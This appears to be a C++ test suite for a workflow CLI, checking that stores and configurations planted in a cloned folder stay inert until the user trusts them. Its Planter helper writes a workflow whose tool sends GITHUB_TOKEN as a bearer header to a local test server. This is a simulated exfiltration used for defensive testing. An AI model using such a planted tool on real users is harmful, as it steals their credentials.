// Nothing runs in somebody's name that he did not start: stores and configurations that came with a folder.
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

#include <catch2/catch.hpp>
#include <chrono>
#include <csignal>
#include <filesystem>
#include <fstream>
#include <mutex>
#include <nlohmann/json.hpp>
#include <sstream>

#include "base/json.h"
#include "tests/base/raw_server.h"
#include "tests/cli/program.h"
#include "tests/folder.h"

namespace weft::cli {
namespace {

namespace fs = std::filesystem;
using Variables = std::map<std::string, std::string>;

constexpr const char* kSet = "weft: 1\nname: hello\nsteps:\n  one: {set: 1}\n";
constexpr const char* kSecret = "ghp_0123456789abcdef";
constexpr const char* kPolicy = "policy: {secrets: [GITHUB_TOKEN]}\n";

// What a planter's server was sent.
class Planter {
 public:
  Planter()
      : server_([this](test::RawConnection& connection, int) {
          std::string request = connection.request();
          const std::lock_guard lock(mutex_);
          sent_ += request;
          connection.send("HTTP/1.1 200 OK\r\nContent-Length: 2\r\nContent-Type: application/json\r\n\r\n{}");
        }) {}
  int connections() const { return server_.connections(); }
  std::string sent() {
    const std::lock_guard lock(mutex_);
    return sent_;
  }

  // A folder as somebody gets it who clones it: a run that waits for two seconds and then sends a secret, a weft.yaml
  // that allows it, and a harmless workflow.
  void plant(const Folder& folder) {
    folder.write("planted.yaml",
                 "weft: 1\nname: planted\ntools:\n  leak:\n    effect: read\n    http: {get: \"" +
                     server_.url("/take") +
                     "\", bearer: GITHUB_TOKEN}\nsteps:\n  rest: {wait: 2s}\n  send: {tool: leak, needs: [rest]}\n");
    folder.write("weft.yaml", kPolicy);
    const Variables theirs{{"HOME", folder / "theirs"}, {"GITHUB_TOKEN", "none"}};
    Program planting(folder.path(),
                     {"serve", "--config", "weft.yaml", "--listen", "127.0.0.1:0", "--http", "127.0.0.1:0"}, theirs);
    planting.wait_for_out("weft: ready");
    const Outcome submitted = run_program(folder.path(), {"submit", "planted.yaml", "--config", "weft.yaml"}, theirs);
    INFO(submitted.err);
    REQUIRE(submitted.exit == 0);
    planting.signal(SIGKILL);
    planting.wait();
    fs::remove_all(folder / "theirs");
    folder.write("hello.yaml", kSet);
    REQUIRE(connections() == 0);
  }

 private:
  std::mutex mutex_;
  std::string sent_;
  test::RawServer server_;
};

const Variables& mine() {
  static const Variables variables{{"GITHUB_TOKEN", kSecret}};
  return variables;
}

Outcome weft(const Folder& folder, const std::vector<std::string>& arguments, Variables variables = mine()) {
  return run_program(folder.path(), arguments, variables);
}

bool has(const std::string& text, const std::string& part) { return text.find(part) != std::string::npos; }

// A listener on a socket that takes connections and never says a word.
class SilentSocket {
 public:
  explicit SilentSocket(const std::string& path) : descriptor_(::socket(AF_UNIX, SOCK_STREAM, 0)) {
    sockaddr_un name{};
    name.sun_family = AF_UNIX;
    path.copy(name.sun_path, sizeof name.sun_path - 1);
    REQUIRE(::bind(descriptor_, reinterpret_cast<sockaddr*>(&name), sizeof name) == 0);
    REQUIRE(::listen(descriptor_, 16) == 0);
  }
  ~SilentSocket() { ::close(descriptor_); }
  SilentSocket(const SilentSocket&) = delete;
  SilentSocket& operator=(const SilentSocket&) = delete;

 private:
  int descriptor_;
};

}  // namespace

TEST_CASE("a planted store and configuration run nothing and send nothing before weft trust") {
  Planter planter;
  const Folder folder;
  planter.plant(folder);
  std::this_thread::sleep_for(std::chrono::milliseconds(2'100));  // Its time is over: an engine would send at once.

  for (const std::vector<std::string>& command :
       std::vector<std::vector<std::string>>{{"run", "hello.yaml"},
                                             {"run", "hello.yaml", "--sim"},
                                             {"submit", "hello.yaml", "--wait"},
                                             {"serve", "--listen", "127.0.0.1:0", "--http", "127.0.0.1:0"},
                                             {"db", "prune", "--older-than", "0s"}}) {
    const Outcome refused = weft(folder, command);
    INFO(command.front() << ": " << refused.err);
    CHECK(refused.exit == 4);
    CHECK(has(refused.err, (folder / "weft.yaml") + " was found and not named, and sets policy.secrets"));
    CHECK(has(refused.err, "weft trust"));
    CHECK(refused.out.empty());
  }
  // Without the configuration the store is still nobody's of this user.
  fs::remove(folder / "weft.yaml");
  for (const std::vector<std::string>& command :
       std::vector<std::vector<std::string>>{{"run", "hello.yaml"}, {"serve"}, {"db", "prune", "--older-than", "0s"}}) {
    const Outcome refused = weft(folder, command);
    INFO(refused.err);
    CHECK(refused.exit == 4);
    CHECK(has(refused.err, (folder / ".weft/weft.db") + " is no store that you have made or trusted"));
    CHECK(has(refused.err, "1 unfinished run and 0 schedules"));
    CHECK(has(refused.err, "weft trust"));
  }
  // It is read all the same.
  const Outcome runs = weft(folder, {"runs", "-o", "json"});
  CHECK(runs.exit == 0);
  CHECK(json_of(runs.out)["runs"].size() == 1);
  CHECK(weft(folder, {"trace", "@latest"}).exit == 0);
  CHECK(planter.connections() == 0);

  // The other way round: with trust it goes on, so what was kept back was real.
  folder.write("weft.yaml", kPolicy);
  const Outcome trusted = weft(folder, {"trust"});
  INFO(trusted.out << trusted.err);
  CHECK(trusted.exit == 0);
  CHECK(has(trusted.out, "weft.yaml sets policy.secrets"));
  CHECK(has(trusted.out, "1 run, 1 unfinished, and 0 schedules"));
  CHECK(has(trusted.out, "planted"));
  Program server(folder.path(), kServe, mine());
  server.wait_for_out("weft: ready");
  for (int i = 0; i < 200 && !has(planter.sent(), kSecret); ++i)
    std::this_thread::sleep_for(std::chrono::milliseconds(50));
  CHECK(has(planter.sent(), std::string("Bearer ") + kSecret));
}

TEST_CASE("a store that this user made, or named, is his; a copy of it is not, and a moved one stays his") {
  const Folder folder;
  folder.write("a/hello.yaml", kSet);
  const auto run_in = [&](const std::string& name, std::vector<std::string> more = {}) {
    std::vector<std::string> arguments{"run", "hello.yaml"};
    arguments.insert(arguments.end(), more.begin(), more.end());
    return run_program(folder / name, arguments, {{"HOME", folder.path()}});
  };
  REQUIRE(run_in("a").exit == 0);
  REQUIRE(run_in("a").exit == 0);
  fs::copy(folder / "a", folder / "b", fs::copy_options::recursive);
  const Outcome copied = run_in("b");
  CHECK(copied.exit == 4);
  CHECK(has(copied.err, "is a copy of your store " + (folder / "a/.weft/weft.db")));
  fs::rename(folder / "a", folder / "c");
  CHECK(run_in("c").exit == 0);
  // Named, it enters the list.
  CHECK(run_in("b", {"--store", ".weft/weft.db"}).exit == 0);
  CHECK(run_in("b").exit == 0);
  // Another file in its place is another store.
  fs::copy_file(folder / "b/.weft/weft.db", folder / "next.db");
  fs::rename(folder / "next.db", folder / "b/.weft/weft.db");
  fs::remove(folder / "b/.weft/weft.db-wal");
  fs::remove(folder / "b/.weft/weft.db-shm");
  CHECK(run_in("b").exit == 4);
  const Outcome shown = run_program(folder / "b", {"trust", "--show"}, {{"HOME", folder.path()}});
  CHECK(has(shown.out, folder / "b/.weft/weft.db"));
  CHECK(run_program(folder / "b", {"trust"}, {{"HOME", folder.path()}}).exit == 0);
  CHECK(run_in("b").exit == 0);
  CHECK(run_program(folder / "b", {"trust", "--revoke"}, {{"HOME", folder.path()}}).exit == 0);
  CHECK(run_in("b").exit == 4);
  CHECK(run_program(folder / "b", {"trust", "--revoke"}, {{"HOME", folder.path()}}).exit == 6);
}

TEST_CASE(
    "a store that WEFT_STORE, a configuration or --store names enters this user's list at once, whatever its format") {
  const std::string format4 = std::string(WEFT_SOURCE_DIR) + "/tests/memory/stores/format-4.db";
  for (const char* way : {"WEFT_STORE", "--config", "WEFT_CONFIG", "--store"}) {
    for (const bool old : {false, true}) {
      CAPTURE(way, old);
      const Folder folder;
      const Folder home;
      folder.write("hello.yaml", kSet);
      const auto run = [&](std::vector<std::string> more = {}, Variables variables = {}) {
        std::vector<std::string> arguments{"run", "hello.yaml"};
        arguments.insert(arguments.end(), more.begin(), more.end());
        variables["HOME"] = home.path();
        variables["WEFT_MODEL_URL"] = "http://127.0.0.1:9/v1";
        return run_program(folder.path(), arguments, variables);
      };
      // One that somebody else has made.
      if (old) {
        fs::create_directory(folder / ".weft");
        fs::copy_file(format4, folder / ".weft/weft.db");
        fs::permissions(folder / ".weft/weft.db", fs::perms::owner_read | fs::perms::owner_write);
      } else {
        REQUIRE(run_program(folder.path(), {"run", "hello.yaml"}).exit == 0);
        fs::remove_all(folder / ".local");  // The list that it entered.
      }
      CHECK(run().exit == 4);
      const std::string store = folder / ".weft/weft.db";
      folder.write("named/weft.yaml", "store: " + store + "\n");
      const std::string by = way;
      const Outcome named = by == "WEFT_STORE"    ? run({}, {{"WEFT_STORE", store}})
                            : by == "--config"    ? run({"--config", folder / "named/weft.yaml"})
                            : by == "WEFT_CONFIG" ? run({}, {{"WEFT_CONFIG", folder / "named/weft.yaml"}})
                                                  : run({"--store", store});
      INFO(named.err);
      CHECK(named.exit == 0);
      CHECK(has(run_program(folder.path(), {"trust", "--show"}, {{"HOME", home.path()}}).out, store));
      CHECK(run().exit == 0);
    }
  }
}

TEST_CASE(
    "a weft.yaml that was found lowers limits by itself, and anything else when it is trusted, until it changes") {
  const Folder folder;
  folder.write("hello.yaml", kSet);
  folder.write("weft.yaml", "limits: {runs_at_work_max: 2}\n");
  CHECK(weft(folder, {"run", "hello.yaml"}).exit == 0);
  folder.write("weft.yaml", "limits: {runs_at_work_max: 20001}\n");
  CHECK(has(weft(folder, {"run", "hello.yaml"}).err, "sets limits.runs_at_work_max"));
  folder.write("weft.yaml", "retention: {default: 1s}\nlimits: {runs_at_work_max: 2}\n");
  const Outcome refused = weft(folder, {"db", "prune"});
  CHECK(refused.exit == 4);
  CHECK(has(refused.err, "sets retention.default"));
  // Reading goes on, and says what holds.
  const Outcome read = weft(folder, {"runs"});
  CHECK(read.exit == 0);
  CHECK(has(read.err, "the defaults hold"));
  // A store that it names is not the one that is read.
  folder.write("weft.yaml", "store: elsewhere.db\n");
  CHECK(has(weft(folder, {"runs"}).out, "hello"));

  // Who names it means it.
  CHECK(weft(folder, {"run", "hello.yaml", "--config", "weft.yaml"}).exit == 0);
  CHECK(fs::exists(folder / "elsewhere.db"));
  const Outcome trusted = weft(folder, {"trust", "weft.yaml", "-o", "json"});
  CHECK(trusted.exit == 0);
  CHECK(json_of(trusted.out)["config"]["keys"] == Json::array({"store"}));
  CHECK(json_of(trusted.out)["store"].is_null());
  CHECK(weft(folder, {"run", "hello.yaml"}).exit == 0);
  folder.write("weft.yaml", "store: elsewhere.db\n\n");
  CHECK(weft(folder, {"run", "hello.yaml"}).exit == 4);
  CHECK(weft(folder, {"run", "hello.yaml", "--config", "/dev/null"}).exit == 0);
}

TEST_CASE("where the list of stores has no place, a store goes on by its name alone") {
  const Folder folder;
  folder.write("hello.yaml", kSet);
  for (const Variables& variables : {Variables{{"HOME", ""}}, Variables{{"XDG_STATE_HOME", "/proc/none"}}}) {
    const Outcome refused = weft(folder, {"run", "hello.yaml"}, variables);
    INFO(refused.err);
    CHECK(refused.exit == 4);
    CHECK(has(refused.err, "--store PATH"));
    CHECK_FALSE(fs::exists(folder / ".weft"));
    const Outcome named = weft(folder, {"run", "hello.yaml", "--store", "named.db"}, variables);
    INFO(named.err);
    CHECK(named.exit == 0);
    CHECK(has(named.err, "is not on the list of your stores"));
  }
  // Rubbish in it is passed over.
  folder.write("state/weft/stores", "{\n\xff\xfe\n[1]\n{\"path\": 3}\n{\"path\": \"/x\", \"inode\": -1}\n");
  REQUIRE(weft(folder, {"run", "hello.yaml"}, {{"XDG_STATE_HOME", folder / "state"}}).exit == 0);
  CHECK(weft(folder, {"run", "hello.yaml"}, {{"XDG_STATE_HOME", folder / "state"}}).exit == 0);
  struct stat status{};
  REQUIRE(::stat((folder / "state/weft/stores").c_str(), &status) == 0);
  CHECK((status.st_mode & 0777) == 0600);
  // A list that others may write says nothing.
  REQUIRE(::chmod((folder / "state/weft/stores").c_str(), 0666) == 0);
  CHECK(weft(folder, {"run", "hello.yaml"}, {{"XDG_STATE_HOME", folder / "state"}}).exit == 4);
}

TEST_CASE("a store or a weft.yaml of another user is refused, also for root, and also in a folder above") {
  if (::geteuid() != 0) return;  // Only root can give a file away.
  constexpr uid_t kOther = 65'534;
  const Folder folder;
  folder.write("a/hello.yaml", kSet);
  const auto run_in = [&](const std::string& name) {
    return run_program(folder / name, {"run", "hello.yaml"}, {{"HOME", folder / "home"}});
  };
  SECTION("a store above") {
    REQUIRE(run_in("a").exit == 0);
    fs::rename(folder / "a/.weft", folder / ".weft");
    REQUIRE(::chown((folder / ".weft").c_str(), kOther, kOther) == 0);
    const Outcome refused = run_in("a");
    CHECK(refused.exit == 4);
    CHECK(has(refused.err, (folder / ".weft") + " belongs to nobody"));
    CHECK(run_program(folder / "a", {"runs"}).exit == 4);
  }
  SECTION("a configuration above a store") {
    REQUIRE(run_in("a").exit == 0);
    folder.write("a/weft.yaml", "limits: {drain: 1s}\n");
    REQUIRE(::chown((folder / "a/weft.yaml").c_str(), kOther, kOther) == 0);
    const Outcome refused = run_in("a");
    CHECK(refused.exit == 4);
    CHECK(has(refused.err, (folder / "a/weft.yaml") + " belongs to nobody"));
  }
  SECTION("a configuration that a variable names") {
    const std::string config = folder.write("theirs/weft.yaml", "limits: {drain: 1s}\n");
    REQUIRE(::chown((folder / "theirs").c_str(), kOther, kOther) == 0);
    const Outcome refused = run_program(folder / "a", {"run", "hello.yaml"}, {{"WEFT_CONFIG", config}});
    CHECK(refused.exit == 4);
    CHECK(has(refused.err, (folder / "theirs") + " belongs to nobody"));
  }
}

TEST_CASE("a file that is none, and one without end, hold no command up") {
  const Folder folder;
  folder.write("hello.yaml", kSet);
  REQUIRE(::mkfifo((folder / "fifo").c_str(), 0600) == 0);
  REQUIRE(::mkfifo((folder / "fifo.yaml").c_str(), 0600) == 0);
  folder.write("names.yaml", "weft: 1\nname: n\nsteps:\n  one: {prompt: {file: fifo}}\n");
  folder.write("takes.yaml", "weft: 1\nname: n\ninput: {t: string}\nsteps:\n  one: {set: \"{{ input.t }}\"}\n");
  for (const std::string& file : {folder / "fifo", std::string("/dev/zero"), std::string("/dev/tty"), folder.path()}) {
    CAPTURE(file);
    CHECK(weft(folder, {"runs"}, {{"WEFT_CONFIG", file}}).exit == 2);
    CHECK(weft(folder, {"check", file}).exit == 2);
    CHECK(weft(folder, {"run", "hello.yaml", "--sim=" + file}).exit == 2);
    CHECK(weft(folder, {"run", "takes.yaml", "-i", "t=@" + file}).exit == 2);
  }
  CHECK(weft(folder, {"check", "fifo.yaml"}).exit == 2);
  CHECK(weft(folder, {"check", "names.yaml"}).exit == 2);
  {
    std::ofstream(folder / "huge.yaml").flush();
    fs::resize_file(folder / "huge.yaml", std::uintmax_t{1} << 40);
    CHECK(weft(folder, {"check", "huge.yaml"}).exit == 2);
    CHECK(weft(folder, {"runs"}, {{"WEFT_CONFIG", folder / "huge.yaml"}}).exit == 2);
  }
  // What a shell makes of <(command) is a pipe, and taken.
  const Outcome piped =
      Program(folder.path(), {"-c", std::string(WEFT_PROGRAM) + " check <(cat hello.yaml)"}, {}, "", "/bin/bash")
          .wait();
  INFO(piped.err);
  CHECK(piped.exit == 0);
}

TEST_CASE("a socket that nobody speaks on holds no command up, and a file in its place is named") {
  const Folder folder;
  folder.write("hello.yaml", kSet);
  REQUIRE(weft(folder, {"run", "hello.yaml"}).exit == 0);
  {
    const SilentSocket silent(folder / ".weft/weft.sock");
    const auto begun = std::chrono::steady_clock::now();
    CHECK(has(weft(folder, {"runs"}).out, "hello"));
    const Outcome refused = weft(folder, {"cancel", "@latest"});
    CHECK(refused.exit == 5);
    CHECK(has(refused.err, (folder / ".weft/weft.sock") + " did not answer within 2 s"));
    CHECK(weft(folder, {"stats"}).exit == 5);
    const Outcome started = weft(folder, {"run", "hello.yaml"});
    CHECK(started.exit == 5);
    CHECK(has(started.err, (folder / ".weft/weft.sock") + " did not answer within 2 s"));
    CHECK(std::chrono::steady_clock::now() - begun < std::chrono::seconds(20));
  }
  fs::remove(folder / ".weft/weft.sock");
  folder.write(".weft/weft.sock", "a note\n");
  for (const std::vector<std::string>& command :
       std::vector<std::vector<std::string>>{{"run", "hello.yaml"}, {"serve"}}) {
    const Outcome refused = weft(folder, command);
    INFO(refused.err);
    CHECK(refused.exit == 1);
    CHECK(has(refused.err, (folder / ".weft/weft.sock") + " is no socket"));
    CHECK(has(refused.err, "move it away"));
  }
  CHECK(fs::file_size(folder / ".weft/weft.sock") == 7);
}

TEST_CASE("weft dumps no core and lets no other process read its memory, unless its developer says so") {
  const Folder folder;
  const auto core_limit_of = [](pid_t pid) {
    std::ifstream limits("/proc/" + std::to_string(pid) + "/limits");
    std::string line;
    while (std::getline(limits, line) && !line.starts_with("Max core file size")) {
    }
    std::istringstream words(line.substr(std::string("Max core file size").size()));
    std::string soft;
    words >> soft;
    return soft;
  };
  const auto started = [&](const Variables& variables) {
    auto server = std::make_unique<Program>(folder.path(), kServe, variables);
    server->wait_for_out("weft: ready");
    return server;
  };
  struct stat status{};
  rlimit limit{};
  REQUIRE(::getrlimit(RLIMIT_CORE, &limit) == 0);
  limit.rlim_cur = limit.rlim_max;
  REQUIRE(::setrlimit(RLIMIT_CORE, &limit) == 0);
  {
    const auto server = started({});
    CHECK(core_limit_of(server->pid()) == "0");
    // Its files in /proc are root's where it is not dumpable, whoever runs it.
    REQUIRE(::stat(("/proc/" + std::to_string(server->pid()) + "/mem").c_str(), &status) == 0);
    CHECK(status.st_uid == 0);
    server->signal(SIGTERM);
    server->wait();
  }
  const auto server = started({{"WEFT_CORE_DUMPS", "1"}});
  CHECK((core_limit_of(server->pid()) == "0") == (limit.rlim_cur == 0));
}

}  // namespace weft::cli
